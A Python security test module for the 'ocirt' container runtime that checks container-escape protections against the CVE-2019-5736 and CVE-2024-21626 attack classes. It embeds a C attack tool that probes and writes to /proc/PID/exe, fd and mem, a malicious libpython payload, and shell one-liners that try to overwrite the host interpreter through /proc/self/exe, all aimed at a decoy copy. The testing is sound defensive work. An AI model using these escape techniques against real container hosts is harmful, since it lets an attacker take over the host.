"""Security properties, each proven by a test that tries to get through from
inside a container and asserts that it fails (issue 5):

  * the host binaries ocirt runs on (the Python interpreter, libpython, the
    _shim extension) cannot be reached or overwritten from a container
    (the CVE-2019-5736 class);
  * no host fd or host cwd reaches the container (the CVE-2024-21626 class);
  * mount destinations are resolved inside the rootfs, also while the
    rootfs changes under ocirt (the CVE-2019-16884 / CVE-2023-27561 class);
  * masked and read-only paths stay so, without CAP_SYS_ADMIN;
  * capabilities, noNewPrivileges and setuid binaries;
  * AppArmor / SELinux on a host that has neither;
  * what a user namespace keeps from the host.

The attacks that need more than busybox use `sectool`, a small static C
program compiled here (SECTOOL_SOURCE), so that each attempt reports the
exact errno. Attacks that could succeed in writing a host binary are run
against a *decoy*: a private copy of the interpreter that runs the ocirt
commands of that test, so that a runtime bug can never damage the real one.
"""
import glob
import hashlib
import importlib.util
import json
import os
import shutil
import stat
import struct
import subprocess
import sysconfig
import tempfile
import time

import pytest

from conftest import OCIRT, REPO, new_id, reap_zombie_children, run_captured

from ocirt.capabilities import CAPABILITIES

# Fixtures reused from the other modules (imported, so pytest registers them here too).
from test_filesystem import host_mount  # noqa: F401
from test_namespaces import set_namespaces, userns_dir  # noqa: F401

BUSYBOX_CAPS = ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE"]  # bundles/busybox/config.json

SECTOOL_SOURCE = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *res(long rc) { return rc < 0 ? strerrorname_np(errno) : "ok"; }

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int matches(int fd, int n, char **list) {
    struct stat st;
    if (fstat(fd, &st) != 0) return 0;
    for (int i = 0; i < n; i++) {
        unsigned long dev, ino;
        if (sscanf(list[i], "%lu:%lu", &dev, &ino) == 2 && dev == st.st_dev && ino == st.st_ino) return 1;
    }
    return 0;
}

/* Every way into /proc/PID that CVE-2019-5736 and its relatives used. A
   write is attempted for real only on the inode named by `writable`
   (the decoy interpreter), so that a failing runtime cannot damage the host. */
static int procattack(const char *pid, int nw, char **writable) {
    char p[256], q[300], buf[4096];
    int fd, w;
    snprintf(p, sizeof p, "/proc/%s/exe", pid);
    printf("exe-readlink %s\n", res(readlink(p, buf, sizeof buf - 1)));
    fd = open(p, O_RDONLY | O_CLOEXEC); printf("exe-read %s\n", res(fd)); if (fd >= 0) close(fd);
    fd = open(p, O_WRONLY | O_APPEND | O_CLOEXEC); printf("exe-write %s\n", res(fd));
    if (fd >= 0) { if (matches(fd, nw, writable)) write(fd, "PWNED", 5); close(fd); }
    fd = open(p, O_PATH | O_CLOEXEC); printf("exe-opath %s\n", res(fd));
    if (fd >= 0) {
        snprintf(q, sizeof q, "/proc/self/fd/%d", fd);
        w = open(q, O_WRONLY | O_APPEND | O_CLOEXEC); printf("exe-reopen-write %s\n", res(w));
        if (w >= 0) { if (matches(w, nw, writable)) write(w, "PWNED", 5); close(w); }
        close(fd);
    }
    const char *links[] = {"cwd", "root", NULL};
    for (int i = 0; links[i]; i++) {
        snprintf(p, sizeof p, "/proc/%s/%s", pid, links[i]);
        fd = open(p, O_PATH | O_CLOEXEC); printf("%s-opath %s\n", links[i], res(fd)); if (fd >= 0) close(fd);
    }
    snprintf(p, sizeof p, "/proc/%s/mem", pid);
    fd = open(p, O_RDONLY | O_CLOEXEC); printf("mem-read %s\n", res(fd)); if (fd >= 0) close(fd);
    fd = open(p, O_RDWR | O_CLOEXEC); printf("mem-write %s\n", res(fd)); if (fd >= 0) close(fd);
    const char *dirs[] = {"map_files", "fd", NULL};
    for (int d = 0; dirs[d]; d++) {
        snprintf(p, sizeof p, "/proc/%s/%s", pid, dirs[d]);
        DIR *dir = opendir(p);
        if (!dir) { printf("%s-list %s\n", dirs[d], strerrorname_np(errno)); continue; }
        int entries = 0;
        struct dirent *e;
        errno = 0;
        while ((e = readdir(dir))) {
            if (e->d_name[0] == '.') continue;
            entries++;
            snprintf(q, sizeof q, "%s/%s", p, e->d_name);
            printf("%s-readlink %s\n", dirs[d], res(readlink(q, buf, sizeof buf - 1)));
            fd = open(q, O_PATH | O_CLOEXEC); printf("%s-opath %s\n", dirs[d], res(fd)); if (fd >= 0) close(fd);
            fd = open(q, O_RDONLY | O_NONBLOCK | O_CLOEXEC); printf("%s-read %s\n", dirs[d], res(fd));
            if (fd >= 0) close(fd);
            errno = 0;
        }
        printf("%s-list %s %d\n", dirs[d], errno ? strerrorname_np(errno) : "ok", entries);
        closedir(dir);
    }
    return 0;
}

/* Poll /proc for processes of ocirt (their command line names ocirt) and
   try to reach into them while they are inside the container. */
static int watch(double seconds, const char *stopfile, int nforbid, char **forbid) {
    double end = now() + seconds;
    long seen = 0, denied = 0, forbidden = 0, leaked = 0, others = 0, others_reached = 0;
    char self[32];
    snprintf(self, sizeof self, "%d", getpid());
    while (now() < end && access(stopfile, F_OK) != 0) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while ((e = readdir(proc))) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || !strcmp(e->d_name, self)) continue;
            char p[256], q[300], cmd[4096];
            snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
            int c = open(p, O_RDONLY | O_CLOEXEC);
            if (c < 0) continue;
            ssize_t n = read(c, cmd, sizeof cmd - 1);
            close(c);
            if (n <= 0) continue;
            for (ssize_t i = 0; i < n; i++) if (!cmd[i]) cmd[i] = ' ';
            cmd[n] = 0;
            int ours = strstr(cmd, "ocirt") != NULL;
            int reached = 0;
            const char *links[] = {"exe", "cwd", "root", NULL};
            for (int t = 0; links[t]; t++) {
                snprintf(p, sizeof p, "/proc/%s/%s", e->d_name, links[t]);
                int fd = open(p, O_PATH | O_CLOEXEC);
                if (fd < 0) { if (ours && (errno == EACCES || errno == EPERM)) denied++; continue; }
                reached = 1;
                if (matches(fd, nforbid, forbid)) { forbidden++; printf("FORBIDDEN %s: %s\n", p, cmd); }
                close(fd);
            }
            snprintf(p, sizeof p, "/proc/%s/fd", e->d_name);
            DIR *fds = opendir(p);
            if (fds) {
                struct dirent *f;
                while ((f = readdir(fds))) {
                    if (f->d_name[0] == '.') continue;
                    snprintf(q, sizeof q, "%s/%s", p, f->d_name);
                    int fd = open(q, O_PATH | O_CLOEXEC);
                    if (fd < 0) { if (ours && (errno == EACCES || errno == EPERM)) denied++; continue; }
                    reached = 1;
                    if (matches(fd, nforbid, forbid)) { forbidden++; printf("FORBIDDEN %s: %s\n", q, cmd); }
                    /* An exec'd program has only 0, 1, 2: anything else of an ocirt
                       process was opened through the Python stage. */
                    if (ours && atoi(f->d_name) > 2) { leaked++; printf("LEAKED %s: %s\n", q, cmd); }
                    close(fd);
                }
                closedir(fds);
            }
            if (ours) seen++; else { others++; if (reached) others_reached++; }
        }
        closedir(proc);
    }
    printf("seen %ld\ndenied %ld\nforbidden %ld\nleaked %ld\nothers %ld\nothers_reached %ld\n",
           seen, denied, forbidden, leaked, others, others_reached);
    return 0;
}

/* Swap two names (a directory and a symlink) as fast as the kernel allows. */
static int swap(const char *a, const char *b, double seconds) {
    double end = now() + seconds;
    while (now() < end)
        for (int i = 0; i < 1000; i++) renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
    return 0;
}

static int ids(void) {
    char line[256];
    FILE *f = fopen("/proc/self/status", "r");
    printf("uid %d euid %d\n", getuid(), geteuid());
    while (f && fgets(line, sizeof line, f))
        if (!strncmp(line, "CapEff:", 7) || !strncmp(line, "CapPrm:", 7)) fputs(line, stdout);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 3 && !strcmp(argv[1], "procattack")) return procattack(argv[2], argc - 3, argv + 3);
    if (argc >= 4 && !strcmp(argv[1], "watch")) return watch(atof(argv[2]), argv[3], argc - 4, argv + 4);
    if (argc == 5 && !strcmp(argv[1], "swap")) return swap(argv[2], argv[3], atof(argv[4]));
    if (argc == 2 && !strcmp(argv[1], "rawsock")) {
        printf("rawsock %s\n", res(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)));
        return 0;
    }
    if (argc == 2 && !strcmp(argv[1], "ids")) return ids();
    if (argc == 2 && !strcmp(argv[1], "fds")) {  /* the open fds, found without opening one */
        printf("fds");
        for (int fd = 0; fd < 1024; fd++) if (fcntl(fd, F_GETFD) >= 0) printf(" %d", fd);
        printf("\n");
        return 0;
    }
    fprintf(stderr, "usage: sectool procattack PID [DEV:INO...] | watch SECONDS STOPFILE [DEV:INO...] | "
                    "swap A B SECONDS | rawsock | ids | fds\n");
    return 2;
}
"""

# The CVE-2019-5736 payload: a libpython that a container image provides at
# the interpreter's RUNPATH. If the host interpreter is ever executed inside
# the container (`#!/proc/self/exe`), the loader takes this library from the
# container's rootfs and runs Py_BytesMain: it keeps an O_PATH fd of
# /proc/self/exe, leaves the interpreter (so that nothing in the container
# executes it any more) and waits until no one else does, then reopens the fd
# for writing and appends a marker.
EVIL_LIBPYTHON_SOURCE = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int Py_BytesMain(int argc, char **argv) {
    char exe[4096] = {0};
    readlink("/proc/self/exe", exe, sizeof exe - 1);
    int fd = open("/proc/self/exe", O_PATH);
    dup2(fd, 3);
    FILE *f = fopen("/result", "a");
    if (f) { fprintf(f, "ran %s\n", exe); fclose(f); }
    if (fork() == 0) {
        int null = open("/dev/null", O_RDWR);
        dup2(null, 0); dup2(null, 1); dup2(null, 2);
        setsid();
        char *sh[] = {"sh", "-c",
            "for i in $(seq 200); do sleep 0.05;"
            " (echo PWNED >> /proc/self/fd/3) 2>/dev/null && { echo overwritten >> /result; exit 0; }; done;"
            " echo gave-up >> /result", NULL};
        execv("/bin/busybox", sh);
        _exit(127);
    }
    char *sleep[] = {"sleep", "1", NULL};
    execv("/bin/busybox", sleep);
    return 1;
}
"""


# ---------------------------------------------------------------- helpers

def sha256(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def dev_ino(path):
    st = os.stat(path)
    return f"{st.st_dev}:{st.st_ino}"


def host_runtime_files():
    """The host files an ocirt process has open or mapped while it is inside a container."""
    files = {_ocirt_interpreter()}
    libpython = os.path.join(sysconfig.get_config_var("LIBDIR") or "", sysconfig.get_config_var("LDLIBRARY") or "")
    if os.path.isfile(libpython):
        files.add(os.path.realpath(libpython))
    shim = importlib.util.find_spec("ocirt._shim").origin
    files.update(os.path.realpath(p) for p in glob.glob(os.path.join(os.path.dirname(shim), "_shim*.so")))
    return sorted(files)


def _ocirt_interpreter():
    """The interpreter of the `ocirt` command (its #! line)."""
    with open(OCIRT, "rb") as f:
        first = f.readline().decode(errors="replace")
    if not first.startswith("#!") or "python" not in first:
        pytest.skip(f"{OCIRT} is not a Python script: cannot run it on a decoy interpreter")
    return os.path.realpath(first[2:].split()[0])


def run_with(interpreter, ocirt, *args, check=True, timeout=60):
    """`ocirt ARGS` started by `interpreter` (the decoy), with the fixture's --root."""
    argv = [interpreter, "-IS", OCIRT, "--root", ocirt.root, *map(str, args)]
    if "create" in args or "run" in args:
        ocirt.ids.add(str(args[-1]))
    return run_captured(argv, check=check, stdin=subprocess.DEVNULL, timeout=timeout)


def kill_and_reap(pid_file):
    """Kill and reap a detached exec'd process (re-parented to us, the subreaper): its
    zombie would otherwise hold its pid namespace, and the container's init could not
    finish exiting until we reap it, which `delete` would wait for."""
    try:
        pid = int(open(pid_file).read())
    except (OSError, ValueError):
        return
    try:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    except (ProcessLookupError, ChildProcessError):
        pass


def wait_for(predicate, timeout=10, what="condition"):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.02)
    raise AssertionError(f"timed out waiting for {what}")


def results(text):
    """sectool's "name result" lines -> {name: [results]}."""
    found = {}
    for line in text.splitlines():
        name, _, rest = line.partition(" ")
        found.setdefault(name, []).append(rest)
    return found


def caps(*names):
    names = list(names)
    return {"bounding": names, "effective": names, "permitted": names}


def cap_mask(*names):
    m = 0
    for name in names:
        m |= 1 << CAPABILITIES[name]
    return m


def set_process(**fields):
    def edit(config):
        config["process"].update(fields)
    return edit


def add_mounts(*entries):
    def edit(config):
        config["mounts"].extend(entries)
    return edit


def make_rootfs(target):
    subprocess.run(["sh", os.path.join(REPO, "bundles", "busybox", "make-rootfs"), str(target)],
                   check=True, capture_output=True)
    return str(target)


def sh(ocirt, bundle, *, expect_rc=0):
    out = ocirt("run", "--bundle", bundle, new_id(), check=False)
    if expect_rc is not None:
        assert out.returncode == expect_rc, f"rc {out.returncode}\nstdout: {out.stdout}\nstderr: {out.stderr}"
    return out


def host_mounts_under(path):
    path = str(path)
    with open("/proc/self/mountinfo") as f:
        points = [line.split()[4] for line in f]
    return [p for p in points if p == path or p.startswith(path + "/")]


def umount_all_under(path):
    for _ in range(1000):
        points = host_mounts_under(path)
        if not points:
            return
        for point in reversed(points):
            subprocess.run(["umount", "-l", point], capture_output=True)


# ---------------------------------------------------------------- fixtures

@pytest.fixture(scope="module")
def sectool(tmp_path_factory):
    """The static attack tool (see SECTOOL_SOURCE)."""
    if shutil.which("gcc") is None:
        pytest.skip("needs gcc and a static libc to build the attack tool")
    work = tmp_path_factory.mktemp("sectool")
    (work / "sectool.c").write_text(SECTOOL_SOURCE)
    built = subprocess.run(["gcc", "-static", "-O2", "-o", str(work / "sectool"), str(work / "sectool.c")],
                           capture_output=True, text=True)
    if built.returncode != 0:
        pytest.skip(f"cannot build the static attack tool: {built.stderr[-500:]}")
    return str(work / "sectool")


@pytest.fixture(scope="module")
def tool_rootfs(tmp_path_factory, sectool):
    """A busybox rootfs with /bin/sectool and the cwd traps of the CVE-2024-21626 tests (used read-only)."""
    top = tmp_path_factory.mktemp("toolfs")
    rootfs = make_rootfs(top / "rootfs")
    shutil.copy(sectool, os.path.join(rootfs, "bin", "sectool"))
    os.symlink("../../../../../../../../../../..", os.path.join(rootfs, "up"))
    # /hostlink -> the absolute path of a host directory; the rootfs has a directory
    # of the same path, which is what the container must get.
    host_dir = top / "hostdir"
    host_dir.mkdir()
    (host_dir / "HOST-MARKER").write_text("")
    mirrored = os.path.join(rootfs, str(host_dir).lstrip("/"))
    os.makedirs(mirrored)
    open(os.path.join(mirrored, "CONTAINER-MARKER"), "w").close()
    os.symlink(str(host_dir), os.path.join(rootfs, "hostlink"))
    return rootfs


@pytest.fixture
def decoy(tmp_path):
    """A private copy of the interpreter that runs `ocirt`: the host binary at stake in
    the CVE-2019-5736 tests, so that a runtime bug damages only this copy."""
    interpreter = _ocirt_interpreter()
    path = tmp_path / "decoy-bin" / os.path.basename(interpreter)
    path.parent.mkdir()
    shutil.copy2(interpreter, path)
    probe = subprocess.run([str(path), "-IS", OCIRT, "--version"], capture_output=True, text=True)
    if probe.returncode != 0:
        pytest.skip(f"a copy of {interpreter} cannot run ocirt: {probe.stderr[-300:]}")
    return str(path)


@pytest.fixture(scope="module")
def host_checksums():
    """The real runtime files' checksums before the module; checked unchanged after each test that asks."""
    return {path: sha256(path) for path in host_runtime_files()}


def assert_host_files_unchanged(host_checksums):
    for path, digest in host_checksums.items():
        assert sha256(path) == digest, f"{path} was modified"


# ================================================================ CVE-2019-5736: host binaries

DENIED = {"EACCES", "EPERM"}


@pytest.mark.parametrize("attacker_uid, init_uid", [(0, 0), (0, 1000), (1000, 1000)])
def test_created_init_is_unreachable_through_proc(ocirt, make_bundle, tool_rootfs, decoy, host_checksums,
                                                  attacker_uid, init_uid):
    """While `created`, the container's pid 1 is ocirt's Python (the decoy here). A
    process exec'd into the container (root or not, default caps) tries every way in
    through /proc/1: exe (read, write, O_PATH + reopen), mem, cwd, root,
    map_files, fd/*. All fail with EACCES/EPERM; no binary changed."""
    cid = new_id()
    bundle = make_bundle(["sleep", "100"], rootfs=tool_rootfs,
                         edit=set_process(user={"uid": init_uid, "gid": init_uid}))
    decoy_before = sha256(decoy)
    run_with(decoy, ocirt, "create", "--bundle", bundle, cid)
    try:
        assert ocirt.state(cid)["status"] == "created"
        out = run_with(decoy, ocirt, "exec", "--user", f"{attacker_uid}:{attacker_uid}", cid,
                       "sectool", "procattack", "1", dev_ino(decoy))
        found = results(out.stdout)
        for name in ("exe-readlink", "exe-read", "exe-write", "exe-opath", "cwd-opath", "root-opath",
                     "mem-read", "mem-write"):
            assert found.get(name) and set(found[name]) <= DENIED, (name, out.stdout)
        assert "exe-reopen-write" not in found
        # The init's fds (the exec fifo and status fifo in the state dir are host files)
        # can be listed, never followed. map_files lists nothing or is refused.
        assert found["fd-list"][0].split()[0] in ("ok", *DENIED)
        for name in ("fd-readlink", "fd-opath", "fd-read", "map_files-readlink", "map_files-opath",
                     "map_files-read"):
            assert set(found.get(name, [])) <= DENIED, (name, out.stdout)
        assert found["map_files-list"][0].split()[-1] == "0" or found["map_files-list"][0] in DENIED
        # still ocirt's Python: the attack ran against the init, not against sleep
        with open(f"/proc/{ocirt.state(cid)['pid']}/exe", "rb") as f:
            assert f.read(4) == b"\x7fELF"
        # The created init runs from ocirt's sealed copy of the interpreter (ocirt/linux/selfexe.py).
        assert os.readlink(f"/proc/{ocirt.state(cid)['pid']}/exe").startswith("/memfd:ocirt-python")
    finally:
        ocirt("delete", "--force", cid)
    assert sha256(decoy) == decoy_before
    assert_host_files_unchanged(host_checksums)


def test_procattack_reaches_a_dumpable_process(ocirt, make_bundle, tool_rootfs, decoy):
    """Calibration of the attack above: against the container's own program (dumpable,
    same uid, same caps) the same attempts succeed, and writing its executable is
    refused only because it is running (ETXTBSY)."""
    cid = new_id()
    run_with(decoy, ocirt, "run", "-d", "--bundle", make_bundle(["sleep", "100"], rootfs=tool_rootfs), cid)
    try:
        out = run_with(decoy, ocirt, "exec", cid, "sectool", "procattack", "1")
        found = results(out.stdout)
        for name in ("exe-readlink", "exe-read", "exe-opath", "cwd-opath", "root-opath", "mem-read"):
            assert found[name] == ["ok"], (name, out.stdout)
        assert found["exe-write"] == ["ETXTBSY"] and found["exe-reopen-write"] == ["ETXTBSY"]
        assert set(found["fd-opath"]) == {"ok"}
    finally:
        ocirt("delete", "--force", cid)


def test_processes_joining_a_container_are_unreachable(ocirt, make_bundle, tool_rootfs, decoy, host_checksums,
                                                       tmp_path):
    """A watcher inside a container polls /proc and tries to open exe, cwd, root and
    every fd of each ocirt process while the processes of 12 `ocirt exec` and the
    inits of 6 containers created in its pid namespace (a pod) are inside. It must
    see them (proof that it raced the Python stage), be refused every time, and
    never reach the interpreter, libpython, the shim or an fd above 2."""
    forbidden = [dev_ino(p) for p in [decoy, *host_runtime_files()]]
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    watcher = new_id("watch")
    bundle = make_bundle(["sh", "-c", "sectool watch 30 /out/stop " + " ".join(forbidden) + " > /out/watch.txt"],
                         rootfs=tool_rootfs,
                         edit=add_mounts({"destination": "/out", "type": "bind", "source": str(out_dir),
                                          "options": ["rbind"]}))
    decoy_before = sha256(decoy)
    run_with(decoy, ocirt, "run", "-d", "--bundle", bundle, watcher)
    watcher_pid = ocirt.state(watcher)["pid"]

    def join_pid_ns(config):
        config["linux"]["namespaces"] = [
            {"type": "pid", "path": f"/proc/{watcher_pid}/ns/pid"} if ns["type"] == "pid" else ns
            for ns in config["linux"]["namespaces"]]
    member = make_bundle(["true"], rootfs=tool_rootfs, edit=join_pid_ns)
    try:
        for i in range(12):
            run_with(decoy, ocirt, "exec", watcher, "true")
            if i % 2 == 0:
                cid = new_id("member")
                run_with(decoy, ocirt, "create", "--bundle", member, cid)
                time.sleep(0.05)
                run_with(decoy, ocirt, "delete", "--force", cid)
        (out_dir / "stop").touch()
        # The members' inits were re-parented to us (the subreaper): until we reap
        # them, their pids stay allocated in the watcher's pid namespace and its
        # pid 1 cannot finish exiting.
        def stopped():
            reap_zombie_children()
            return ocirt.state(watcher)["status"] == "stopped"
        wait_for(stopped, 15, "the watcher to stop")
    finally:
        ocirt("delete", "--force", watcher)
    report = (out_dir / "watch.txt").read_text()
    counts = {k: int(v[0]) for k, v in results(report).items() if k.islower() and v and v[0].isdigit()}
    assert counts["forbidden"] == 0 and "FORBIDDEN" not in report, report
    assert counts["leaked"] == 0 and "LEAKED" not in report, report
    assert counts["seen"] > 0 and counts["denied"] > 0, f"the watcher never caught ocirt inside: {report}"
    assert counts["others_reached"] > 0, report  # and it can reach an ordinary process
    assert sha256(decoy) == decoy_before
    assert_host_files_unchanged(host_checksums)


@pytest.fixture
def evil_rootfs(tmp_path, decoy):
    """A writable rootfs for the `#!/proc/self/exe` attack: the host's dynamic loader
    and libc (as any distribution image has), the malicious libpython at the decoy's
    RUNPATH, and /evil, a script whose interpreter is /proc/self/exe."""
    if shutil.which("gcc") is None:
        pytest.skip("needs gcc to build the payload")
    rootfs = make_rootfs(tmp_path / "evil-rootfs")
    libs = subprocess.run(["ldd", decoy], capture_output=True, text=True).stdout
    wanted = {"libc.so.6"}
    libpython = None
    for line in libs.splitlines():
        parts = line.split()
        if "=>" in parts and len(parts) >= 3 and parts[2].startswith("/"):
            name, path = parts[0], parts[2]
            if name.startswith("libpython"):
                libpython = path  # as found through the RUNPATH, the same path in the image
            elif name in wanted:
                dest = os.path.join(rootfs, path.lstrip("/"))
                os.makedirs(os.path.dirname(dest), exist_ok=True)
                shutil.copy(path, dest)
        elif parts and parts[0].startswith("/") and "ld-linux" in parts[0]:
            dest = os.path.join(rootfs, parts[0].lstrip("/"))
            os.makedirs(os.path.dirname(dest), exist_ok=True)
            shutil.copy(parts[0], dest)
    if libpython is None:
        pytest.skip("the interpreter is linked statically with libpython: provide another payload")
    source = tmp_path / "evil.c"
    source.write_text(EVIL_LIBPYTHON_SOURCE)
    dest = os.path.join(rootfs, libpython.lstrip("/"))
    os.makedirs(os.path.dirname(dest), exist_ok=True)
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", dest, str(source)], check=True, capture_output=True)
    evil = os.path.join(rootfs, "evil")
    with open(evil, "w") as f:
        f.write("#!/proc/self/exe\n")
    os.chmod(evil, 0o755)
    return rootfs


@pytest.mark.parametrize("vector", ["start", "exec", "startContainer-hook"])
def test_container_cannot_run_or_overwrite_the_host_interpreter(ocirt, make_bundle, evil_rootfs, decoy,
                                                                host_checksums, vector):
    """The original CVE-2019-5736 attack, with the interpreter as the binary at stake:
    the image's /evil is `#!/proc/self/exe`, and ocirt is made to execute it as the
    container's program, as an exec'd process, or as a startContainer hook. The host
    interpreter must never run inside the container, and never change."""
    before = sha256(decoy)
    cid = new_id()
    args = ["/evil"] if vector == "start" else ["sleep", "30"]

    def edit(config):
        config["root"] = {"path": evil_rootfs, "readonly": False}
        if vector == "startContainer-hook":
            config["hooks"] = {"startContainer": [{"path": "/evil"}]}
    bundle = make_bundle(args, edit=edit)
    result = os.path.join(evil_rootfs, "result")
    exec_pid = os.path.join(os.path.dirname(evil_rootfs), "exec.pid")
    try:
        run_with(decoy, ocirt, "create", "--bundle", bundle, cid)
        run_with(decoy, ocirt, "start", cid, check=False)
        if vector == "exec":
            run_with(decoy, ocirt, "exec", "--detach", "--pid-file", exec_pid, cid, "/evil", check=False)

        def finished():
            text = open(result).read() if os.path.exists(result) else ""
            return "overwritten" in text or "gave-up" in text or ocirt.state(cid)["status"] == "stopped"
        try:
            wait_for(finished, timeout=12)
        except AssertionError:
            pass  # a fixed runtime may leave /evil looping: what matters is checked below
    finally:
        kill_and_reap(exec_pid)
        ocirt("delete", "--force", cid)
    report = open(result).read() if os.path.exists(result) else ""
    # What runs inside is ocirt's sealed memfd copy of the interpreter (as runc runs a
    # sealed copy of itself): the attack may start, but the host's file must not change.
    assert sha256(decoy) == before, f"the container rewrote the host interpreter: {report}"
    assert "overwritten" not in report, report
    assert_host_files_unchanged(host_checksums)


def test_cap_sys_ptrace_cannot_overwrite_the_host_interpreter(ocirt, make_bundle, tool_rootfs, decoy, tmp_path):
    """The same target through the created init rather than through execve: an exec'd
    process with CAP_SYS_PTRACE holds /proc/1/exe open while the init is ocirt's Python,
    then, after `start`, waits until nothing runs the interpreter and reopens it for writing."""
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    bundle = make_bundle(["sleep", "30"], rootfs=tool_rootfs,
                         edit=add_mounts({"destination": "/out", "type": "bind", "source": str(out_dir),
                                          "options": ["rbind"]}))
    attack = ("exec 3< /proc/1/exe || { echo no-handle > /out/result; exit 1; }; echo handle > /out/result; "
              "for i in $(seq 200); do sleep 0.05; (echo PWNED >> /proc/self/fd/3) 2>/dev/null && "
              "{ echo overwritten >> /out/result; exit 0; }; done; echo gave-up >> /out/result")
    before = sha256(decoy)
    cid = new_id()
    exec_pid = tmp_path / "exec.pid"
    result = out_dir / "result"
    try:
        run_with(decoy, ocirt, "create", "--bundle", bundle, cid)
        run_with(decoy, ocirt, "exec", "--detach", "--pid-file", exec_pid, "--cap", "CAP_SYS_PTRACE", cid,
                 "sh", "-c", attack)
        wait_for(result.exists, 5, "the attacker to start")
        run_with(decoy, ocirt, "start", cid)
        wait_for(lambda: any(w in result.read_text() for w in ("no-handle", "overwritten", "gave-up")), 15,
                 "the attack to finish")
    finally:
        kill_and_reap(exec_pid)
        ocirt("delete", "--force", cid)
    assert sha256(decoy) == before, f"the container rewrote the host interpreter: {result.read_text()}"


def test_no_runtime_file_is_open_or_mapped_in_container_processes(ocirt, make_bundle, tool_rootfs, tmp_path):
    """After exec, the container's init and an exec'd process hold fds 0, 1, 2 only, none
    of them a file of the host runtime or its state dir, and map no file of ocirt
    (interpreter, libpython, shim): nothing is left for a container to reach."""
    runtime_files = {dev_ino(p) for p in host_runtime_files()}
    cid = new_id()
    ocirt("run", "-d", "--bundle", make_bundle(["sleep", "100"], rootfs=tool_rootfs), cid)
    pid_file = tmp_path / "exec.pid"
    try:
        init = ocirt.state(cid)["pid"]
        ocirt("exec", "--detach", "--pid-file", pid_file, cid, "sleep", "100")
        execd = int(pid_file.read_text())
        for pid in (init, execd):
            fds = sorted(int(fd) for fd in os.listdir(f"/proc/{pid}/fd"))
            assert fds == [0, 1, 2], (pid, fds)
            for fd in fds:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                assert ocirt.root not in target, target
                assert dev_ino(f"/proc/{pid}/fd/{fd}") not in runtime_files
            assert dev_ino(f"/proc/{pid}/exe") == dev_ino(os.path.join(tool_rootfs, "bin", "busybox"))
            with open(f"/proc/{pid}/maps") as f:
                maps = f.read()
            for path in host_runtime_files():
                assert path not in maps, (pid, path)
            assert "python" not in maps and "ocirt" not in maps, maps
    finally:
        kill_and_reap(pid_file)
        ocirt("delete", "--force", cid)


# ================================================================ CVE-2024-21626: host fds and cwd

CWD_PROBE = ("echo \"cwd $(readlink /proc/self/cwd)\"; echo \"here $(ls -A . | tr '\\n' ' ')\"; "
             "i=0; while [ $i -lt 64 ]; do cd -P .. || exit 9; i=$((i+1)); done; "
             "echo \"top $(stat -c %d:%i .)\"; echo \"root $(stat -c %d:%i /)\"; "
             # the fds the shell got (listing them with ls would add the shell's own pipes)
             "exec sectool fds")


def check_cwd_output(text):
    lines = dict(line.split(" ", 1) for line in text.splitlines() if " " in line)
    # walking up from the cwd ends at the container's root, never at the host's
    assert lines["top"] == lines["root"], text
    assert lines["cwd"].startswith("/") and "unreachable" not in lines["cwd"], text
    return lines


@pytest.mark.parametrize("cwd, expect_here", [
    ("/../../../../", "bin"),
    ("/up", "bin"),                       # image symlink: ../../../../../../../../../..
    ("/up/up/..", "bin"),
    ("/hostlink", "CONTAINER-MARKER"),    # image symlink to the absolute path of a host directory
])
def test_cwd_resolves_inside_the_container(ocirt, make_bundle, tool_rootfs, cwd, expect_here):
    out = sh(ocirt, make_bundle(["sh", "-c", CWD_PROBE], rootfs=tool_rootfs, edit=set_process(cwd=cwd)))
    lines = check_cwd_output(out.stdout)
    assert expect_here in lines["here"].split() and "HOST-MARKER" not in lines["here"], out.stdout
    assert lines["fds"].split() == ["0", "1", "2"], out.stdout


@pytest.mark.parametrize("fd", range(3, 16))
def test_cwd_through_an_inherited_fd_never_leaves_the_container(ocirt, make_bundle, tool_rootfs, fd):
    """runc's CVE-2024-21626: process.cwd "/proc/self/fd/7" named a host directory fd
    the runtime had open. Whatever fd ocirt holds at chdir time, the cwd either
    fails cleanly at create or lies inside the container."""
    bundle = make_bundle(["sh", "-c", CWD_PROBE], rootfs=tool_rootfs, edit=set_process(cwd=f"/proc/self/fd/{fd}"))
    out = ocirt("run", "--bundle", bundle, new_id(), check=False)
    if out.returncode != 0:
        assert "cwd" in out.stderr and "internal error" not in out.stderr, out.stderr
        assert not os.listdir(ocirt.root)
    else:
        check_cwd_output(out.stdout)


@pytest.fixture
def running(ocirt, make_bundle, tool_rootfs):
    cid = new_id()
    ocirt("run", "-d", "--bundle", make_bundle(["sleep", "100"], rootfs=tool_rootfs), cid)
    yield cid
    ocirt("delete", "--force", cid)


@pytest.mark.parametrize("cwd", ["/../../../../", "/up", "/hostlink", *(f"/proc/self/fd/{n}" for n in range(3, 16))])
def test_exec_cwd_never_leaves_the_container(ocirt, running, cwd):
    out = ocirt("exec", "--cwd", cwd, running, "sh", "-c", CWD_PROBE, check=False)
    if out.returncode != 0:
        assert cwd.startswith("/proc/self/fd/"), out.stderr
        assert "cwd" in out.stderr and "internal error" not in out.stderr, out.stderr
    else:
        lines = check_cwd_output(out.stdout)
        assert "HOST-MARKER" not in lines["here"]
